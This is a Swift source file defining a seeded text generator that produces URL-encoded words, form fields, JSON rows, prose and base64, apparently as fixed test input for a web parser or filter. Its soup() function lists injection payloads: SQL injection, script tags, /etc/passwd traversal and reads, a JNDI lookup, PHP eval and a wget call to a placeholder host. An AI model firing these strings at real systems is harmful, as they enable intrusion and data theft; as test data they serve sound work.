// Texts from a fixed seed.

/// Words, values and long texts; the same in every run.
struct TextSource {
    private var state: UInt64 = 0x1234_5678_9ABC_DEF1

    private static let words = [
        "garden", "chair", "oak", "delivery", "Friday", "Springfield", "second floor", "green", "summer", "ring twice",
        "O.K.", "No. 12",
    ]

    mutating func number(_ bound: Int) -> Int {
        state ^= state << 13
        state ^= state >> 7
        state ^= state << 17
        return Int(state % UInt64(bound)) + 1
    }

    private mutating func pick(_ list: [String]) -> String { list[number(list.count) - 1] }

    /// About `length` bytes of words and numbers, blanks as `+`.
    mutating func value(_ length: Int) -> String {
        var parts: [String] = []
        var count = 0
        while count < length {
            let part = pick(Self.words) + "\(number(999))"
            count += part.utf8.count + 1
            parts.append(part)
        }
        return String(parts.joined(separator: "+").prefix(length)).replacingBlanks
    }

    mutating func fields(_ count: Int, _ length: Int) -> String {
        (1...count).map { "field\($0)=\(value(length))" }.joined(separator: "&")
    }

    mutating func row() -> String {
        let note = String(value(19).map { $0 == "+" ? " " : $0 })
        return "{\"id\":\(number(99_999)),\"name\":\"Garden \(pick(Self.words))\",\"price\":\(20 + number(80)).90,"
            + "\"tags\":[\"outdoor\",\"wood\"],\"note\":\"\(note)\"}"
    }

    mutating func prose(_ length: Int) -> String {
        let words = [
            "the", "of", "customer", "and", "delivery", "was", "late", "but", "we", "liked", "chair", "very", "much", "in",
            "our", "garden", "where", "it", "stands", "since", "Monday.", "Please", "send", "another", "one,", "thank",
            "you!", "(see", "photo)", "select", "from", "all", "colours",
        ]
        return long(length, words, separator: "+")
    }

    mutating func source(_ length: Int) -> String {
        let lines = [
            "int+main(int+argc,+char+**argv)+{", "if+(argc+%3C+2)+return+-1;", "for+(i+=+0;+i+%3C+n;+i%2B%2B)+sum+%2B=+a[i];",
            "printf(%22%25d%5Cn%22,+sum);", "/*+a+comment+*/", "struct+node+*next+=+head-%3Enext;", "free(p);+}", "return+0;",
        ]
        return long(length, lines, separator: "%0A++++")
    }

    mutating func soup(_ length: Int) -> String {
        let pieces = [
            "%27+OR+1=1--", "%3Cscript%3Ealert(1)%3C/script%3E", "../../etc/passwd", ";cat+/etc/passwd", "${jndi:ldap://x}",
            "UNION+SELECT+a,b+FROM+t", "%3C?php+eval($x)", "javascript:alert(1)", "sleep(5)", "||wget+http://a.b/c",
        ]
        return long(length, pieces, separator: "+")
    }

    mutating func base64(_ length: Int) -> String {
        let digits = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789".unicodeScalars)
        var text = ""
        for _ in 0..<length { text.unicodeScalars.append(digits[number(digits.count) - 1]) }
        return text
    }

    private mutating func long(_ length: Int, _ pieces: [String], separator: String) -> String {
        var text = ""
        while text.utf8.count < length { text += pick(pieces) + separator }
        return text
    }
}

extension String {
    fileprivate var replacingBlanks: String { String(map { $0 == " " ? "+" : $0 }) }
}
